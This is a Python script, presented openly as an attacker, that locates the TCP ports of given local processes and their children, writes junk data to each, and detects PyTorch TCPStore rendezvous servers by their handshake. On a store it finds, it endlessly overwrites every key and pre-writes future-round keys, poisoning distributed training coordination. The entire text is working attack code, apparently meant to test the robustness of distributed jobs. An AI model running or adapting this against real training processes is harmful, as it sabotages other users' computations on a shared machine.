"""An attacker of the processes whose ids it is given, and of their children, as a user of their machine can be one:
it finds the ports on which they listen, and writes what it can. What it did is printed.

It reads the kernel's table of sockets for them, as everybody may, and not their memory.
"""

from __future__ import annotations

import contextlib
import re
import socket
import struct
import sys
import time
from datetime import timedelta

import psutil
import torch.distributed as distributed

VALIDATION = 0x3C85F7CE  # torch's TCPStore begins each connection with it
LINES = (b"GET / HTTP/1.1\r\n\r\n", b'{"say":"beat"}\n', b"\0" * 64, b"\xff" * 64)


def listening(pids: list[int]) -> set[tuple[str, int]]:
    found = set()
    for pid in pids:
        with contextlib.suppress(psutil.Error):
            for process in (psutil.Process(pid), *psutil.Process(pid).children(recursive=True)):
                with contextlib.suppress(psutil.Error):
                    found |= {
                        (each.laddr.ip, each.laddr.port)
                        for each in process.net_connections("tcp")
                        if each.status == psutil.CONN_LISTEN
                    }
    return found


def open_at(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), 1.0)


def write_lines(port: int) -> None:
    for data in LINES:
        with contextlib.suppress(OSError), open_at(port) as connection:
            connection.sendall(data)
            print(f"wrote to {port}", flush=True)


def poison(port: int) -> None:
    """Lists the keys of a torch store, and writes over each, again and again; and writes beforehand what ranks will
    tell in the next rounds."""
    store = distributed.TCPStore("127.0.0.1", port, None, False, timedelta(seconds=2), wait_for_workers=False)
    print(f"torch's store at {port}", flush=True)
    while True:
        keys = {key for key in store.list_keys() if "/" in key}
        for key in keys | {re.sub(r"round\d+", f"round{number}", key) for key in keys for number in range(8)}:
            store.set(key, b"\0junk" * 8)


def is_store(port: int) -> bool:
    """Whether a torch store answers: a ping, to which it returns the number that it was sent."""
    number = 4711
    with contextlib.suppress(OSError), open_at(port) as connection:
        connection.sendall(struct.pack("=BI", 0, VALIDATION) + struct.pack("=BI", 13, number))
        return connection.recv(4) == struct.pack("=I", number)
    return False


def main(pids: list[int]) -> None:
    done: set[tuple[str, int]] = set()
    while True:
        for address, port in listening(pids) - done:
            done.add((address, port))
            write_lines(port)
            if is_store(port):
                with contextlib.suppress(Exception):
                    poison(port)
        time.sleep(0.001)


main([int(word) for word in sys.argv[1:]])
